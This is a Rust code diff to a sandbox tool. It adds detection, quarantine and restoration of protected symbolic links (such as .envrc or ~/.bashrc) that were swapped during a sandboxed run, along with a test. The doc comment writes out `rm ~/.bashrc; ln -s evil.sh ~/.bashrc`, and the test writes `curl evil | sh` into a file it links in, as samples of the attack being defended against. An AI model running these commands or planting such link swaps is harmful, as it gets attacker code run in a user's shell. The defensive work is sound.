@@ -29,7 +29,7 @@ pub use protect::git_config_is_inert;
 
 use policy::is_within;
 
-use crate::beneath::{is_denied, move_no_replace, Opened, Root};
+use crate::beneath::{is_denied, move_no_replace, read_link_child, symlink_child, Opened, Root};
 use crate::host::{HostView, Kind};
 use crate::planted_git;
 use crate::walk::{in_git_modules, walk, Stamps};
@@ -88,16 +88,19 @@ fn after_run_inspecting(
     };
     let mut out = Vec::new();
     // A `.stockade` the restore made (its quarantine) is stockade's own, not the run's.
-    let mut ours = Vec::new();
+    let before = own_dirs();
     if !held.pinned {
-        let before = own_dirs();
         out.extend(replaced_protected(run, host, run_id));
-        ours = own_dirs();
-        ours.retain(|d| !before.contains(d));
     }
-    out.extend(sweep_inspecting(run, host, run_id, &ours));
+    // Both backends: native's creation guard refuses the new link during the run, so there
+    // this finds nothing unless a link on the way changed.
+    let (replaced, restored) = replaced_links(run, host, run_id);
+    out.extend(replaced);
+    let mut ours = own_dirs();
+    ours.retain(|d| !before.contains(d));
+    out.extend(sweep_inspecting(run, host, run_id, &ours, &restored));
     if !held.creation_guard {
-        out.extend(guard_after_run(run, host, run_id, started));
+        out.extend(guard_after(run, host, run_id, started, &restored));
     }
     out
 }
@@ -117,7 +120,7 @@ pub fn sweep_skipping(
     ours: &[PathBuf],
 ) -> Vec<Violation> {
     let inspect = Inspect::new(host, run);
-    let out = sweep_inspecting(run, &inspect, run_id, ours);
+    let out = sweep_inspecting(run, &inspect, run_id, ours, &[]);
     inspect.restore();
     out
 }
@@ -283,11 +286,13 @@ fn uninspectable(root: &Path, dir: &Path, why: &std::io::Error, run_id: &str) ->
     v
 }
 
+/// `restored`: protected links [`replaced_links`] made again (new, but the user's own).
 fn sweep_inspecting(
     run: &Resolved,
     host: &Inspect<'_>,
     run_id: &str,
     ours: &[PathBuf],
+    restored: &[PathBuf],
 ) -> Vec<Violation> {
     let mut found = Vec::new();
     let mut links = Vec::new();
@@ -330,7 +335,7 @@ fn sweep_inspecting(
     }
     // Judged once the walk is done: every directory on a link's way that the run closed has
     // been opened up by then (`l -> d/x` with `d` at mode 000 and `d/x -> ~/.ssh`).
-    links.retain(|l| new_link_into_mask(run, host, l));
+    links.retain(|l| !restored.contains(l) && new_link_into_mask(run, host, l));
     for link in links {
         if let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(&link, r)) {
             linked.push(quarantine(root, &link, run_id, "symlink_to_masked_path"));
@@ -501,6 +506,134 @@ pub fn replaced_protected(run: &Resolved, host: &dyn HostView, run_id: &str) -> 
     out
 }
 
+/// Every protected path that was a symbolic link at the start and is a link holding another
+/// target after the run, or leading elsewhere. Under gVisor nothing refuses
+/// `rm ~/.bashrc; ln -s evil.sh ~/.bashrc` during the run (a mount cannot cover a link; its
+/// target's read-only bind does not stop the name from being replaced), and the sweep's walk
+/// compares kinds: a link is still a link, so the host would source `evil.sh`.
+///
+/// A link made again with the same target is the same link to everything that follows it
+/// (its own inode is not compared). One with another target is quarantined and the original
+/// target written at its name again, relative to a descriptor of its directory (`symlinkat`,
+/// after `readlinkat` of the link itself: nothing the run made is followed). One that holds
+/// its target but leads elsewhere (a link on its way was changed, or the target it dangled to
+/// was made) is quarantined without being made again: the same target would lead to the same
+/// place. A protected link that is gone or no longer a link is the sweep's: a removal runs
+/// nothing, a new file or directory at the name is a created protected path.
+///
+/// Returns the violations and the links made again (new, but not the run's).
+pub fn replaced_links(
+    run: &Resolved,
+    host: &dyn HostView,
+    run_id: &str,
+) -> (Vec<Violation>, Vec<PathBuf>) {
+    let mut out = Vec::new();
+    let mut restored = Vec::new();
+    for (path, before) in &run.watch.sweep.links {
+        let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(path, r)) else {
+            continue;
+        };
+        if host.lstat_kind(path) != Some(Kind::Symlink) {
+            continue;
+        }
+        let rel = relative(root, path);
+        let now = match read_link_beneath(root, rel) {
+            Ok(t) => t,
+            // Not readable as a link through the root (a link on the way to it): not the
+            // path the plan saw, taken out as replaced.
+            Err(e) => PathBuf::from(format!("<unreadable: {e}>")),
+        };
+        let same_target = now == before.target;
+        let leads = host.canonicalize(path);
+        if same_target && leads == before.resolves {
+            continue;
+        }
+        let shown = |p: &Option<PathBuf>| match p {
+            Some(p) => p.display().to_string(),
+            None => "nothing (dangling)".to_string(),
+        };
+        let v = quarantine(root, path, run_id, PROTECTED_PATH_REPLACED);
+        let mut what = vec![format!(
+            "the link at its name since the run (to {}): {}",
+            now.display(),
+            v.action
+        )];
+        if same_target {
+            what.push(format!(
+                "it holds its target {} still but leads to {} instead of {} (a link on its \
+                 way changed, or the run made what it pointed to): not made again, check \
+                 {} and make it by hand",
+                before.target.display(),
+                shown(&leads),
+                shown(&before.resolves),
+                before.target.display()
+            ));
+        } else {
+            match make_link_beneath(root, rel, &before.target) {
+                Ok(()) if host.canonicalize(path) == before.resolves => {
+                    what.push(format!(
+                        "the original link (to {}) made again",
+                        before.target.display()
+                    ));
+                    restored.push(path.clone());
+                }
+                Ok(()) => {
+                    let removed = remove_planted(root, rel);
+                    what.push(format!(
+                        "the original link (to {}) would lead to {} instead of {} (a link on \
+                         its way changed too): {}; make it by hand",
+                        before.target.display(),
+                        shown(&host.canonicalize(path)),
+                        shown(&before.resolves),
+                        match removed {
+                            Ok(()) => "not made again".to_string(),
+                            Err(e) => format!("it could not be removed ({e}), remove it"),
+                        }
+                    ));
+                }
+                Err(e) => what.push(format!(
+                    "the original link (to {}) could not be made again: {e}",
+                    before.target.display()
+                )),
+            }
+        }
+        out.push(Violation {
+            code: E_SANDBOX_VIOLATION,
+            kind: PROTECTED_PATH_REPLACED,
+            path: path.clone(),
+            action: format!(
+                "a protected link was replaced during the run: {}",
+                what.join("; ")
+            ),
+        });
+    }
+    (out, restored)
+}
+
+/// `readlinkat` of `root/rel` relative to its directory, opened through no link.
+fn read_link_beneath(root: &Path, rel: &Path) -> std::io::Result<PathBuf> {
+    let r = Root::open(root)?;
+    let name = rel
+        .file_name()
+        .ok_or_else(|| std::io::Error::other("not a file below the root"))?;
+    let dir = r.dir(rel.parent().unwrap_or(Path::new("")))?;
+    read_link_child(dir.as_fd(), name).map(PathBuf::from)
+}
+
+/// The symbolic link `root/rel` holding `target`, made relative to its directory (opened
+/// through no link), replacing nothing; a directory the run closed is opened up for it.
+fn make_link_beneath(root: &Path, rel: &Path, target: &Path) -> std::io::Result<()> {
+    let parent = rel.parent().unwrap_or(Path::new(""));
+    opening_up(root, &[parent], || {
+        let r = Root::open(root)?;
+        let name = rel
+            .file_name()
+            .ok_or_else(|| std::io::Error::other("not a file below the root"))?;
+        let dir = r.dir(parent)?;
+        symlink_child(target.as_os_str(), dir.as_fd(), name)
+    })
+}
+
 /// The entry of `root` (not a symbolic link) that is the file `(dev, ino)`, looked for first
 /// beside `path`, then in the whole root (up to a bound: a large workspace is not walked
 /// whole for this).
@@ -571,6 +704,18 @@ pub fn guard_after_run(
     run_id: &str,
     started: std::time::SystemTime,
 ) -> Vec<Violation> {
+    guard_after(run, host, run_id, started, &[])
+}
+
+/// [`guard_after_run`], leaving alone the protected links in `restored` (made again by
+/// [`replaced_links`]: new, but the user's own).
+fn guard_after(
+    run: &Resolved,
+    host: &dyn HostView,
+    run_id: &str,
+    started: std::time::SystemTime,
+    restored: &[PathBuf],
+) -> Vec<Violation> {
     let mut out = Vec::new();
     let new_since = |p: &Path| host.lstat_ctime(p).is_some_and(|t| t >= started);
     let mut found: BTreeSet<PathBuf> = BTreeSet::new();
@@ -624,7 +769,7 @@ pub fn guard_after_run(
     }
     let mut moved: Vec<PathBuf> = Vec::new();
     for path in found {
-        if moved.iter().any(|m| is_within(&path, m)) {
+        if moved.iter().any(|m| is_within(&path, m)) || restored.contains(&path) {
             continue;
         }
         let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(&path, r)) else {
@@ -1029,6 +1174,84 @@ mod tests {
             .join(".stockade/quarantine/run1-1/.git/hooks/post-checkout")
             .exists());
         assert!(violations.iter().any(|v| v.action.contains("run1-1")));
+    }
+
+    /// A protected `.envrc` that is a link (`-> envrc.shared`), replaced during the run by a
+    /// link to the run's own file: quarantined and the original link made again. Controls: a
+    /// link made again with the same target is left alone; before the fix (kinds compared
+    /// only) the swap stayed. A link that holds its target but leads elsewhere (a directory
+    /// link on its way retargeted) is quarantined and not made again.
+    #[test]
+    fn a_protected_link_swapped_for_another_is_put_back() {
+        use std::os::unix::fs::symlink;
+        let held = Held {
+            creation_guard: false,
+            pinned: false,
+        };
+        let tmp = tempfile::tempdir().unwrap();
+        let ws = std::fs::canonicalize(tmp.path()).unwrap().join("ws");
+        std::fs::create_dir_all(&ws).unwrap();
+        std::fs::write(ws.join("envrc.shared"), "export A=1\n").unwrap();
+        symlink("envrc.shared", ws.join(".envrc")).unwrap();
+        let plan = plan_for(&ws);
+        let started = std::time::SystemTime::now();
+        // The swap.
+        std::fs::write(ws.join("evil.sh"), "curl evil | sh\n").unwrap();
+        std::fs::remove_file(ws.join(".envrc")).unwrap();
+        symlink("evil.sh", ws.join(".envrc")).unwrap();
+        let v = after_run(&plan, &RealHost, "swap", held, started);
+        assert_eq!(
+            std::fs::read_link(ws.join(".envrc")).unwrap(),
+            Path::new("envrc.shared"),
+            "{v:?}"
+        );
+        assert!(
+            v.iter()
+                .any(|v| v.kind == PROTECTED_PATH_REPLACED && v.path == ws.join(".envrc")),
+            "{v:?}"
+        );
+        let q = ws.join(".stockade/quarantine/swap/.envrc");
+        assert_eq!(std::fs::read_link(q).unwrap(), Path::new("evil.sh"));
+        // Nothing else reported the restored link (as created, say).
+        assert_eq!(v.len(), 1, "{v:?}");
+
+        // Control: removed and made again with the same target: the same link.
+        let plan = plan_for(&ws);
+        std::fs::remove_file(ws.join(".envrc")).unwrap();
+        symlink("envrc.shared", ws.join(".envrc")).unwrap();
+        let v = after_run(&plan, &RealHost, "same", held, started);
+        assert!(v.is_empty(), "{v:?}");
+        assert_eq!(
+            std::fs::read_link(ws.join(".envrc")).unwrap(),
+            Path::new("envrc.shared")
+        );
+
+        // The same target through a retargeted directory link: leads elsewhere.
+        std::fs::create_dir_all(ws.join("a")).unwrap();
+        std::fs::create_dir_all(ws.join("b")).unwrap();
+        std::fs::write(ws.join("a/envrc"), "export A=1\n").unwrap();
+        std::fs::write(ws.join("b/envrc"), "curl evil | sh\n").unwrap();
+        symlink("a", ws.join("shared")).unwrap();
+        std::fs::remove_file(ws.join(".envrc")).unwrap();
+        symlink("shared/envrc", ws.join(".envrc")).unwrap();
+        let plan = plan_for(&ws);
+        assert_eq!(
+            plan.watch.sweep.links[&ws.join(".envrc")].resolves,
+            Some(ws.join("a/envrc"))
+        );
+        std::fs::remove_file(ws.join("shared")).unwrap();
+        symlink("b", ws.join("shared")).unwrap();
+        let v = after_run(&plan, &RealHost, "via", held, started);
+        assert!(
+            std::fs::symlink_metadata(ws.join(".envrc")).is_err(),
+            "{v:?}"
+        );
+        assert!(
+            v.iter().any(|v| v.kind == PROTECTED_PATH_REPLACED
+                && v.path == ws.join(".envrc")
+                && v.action.contains("not made again")),
+            "{v:?}"
+        );
     }
 
     /// Asks the real host, counting directory listings.
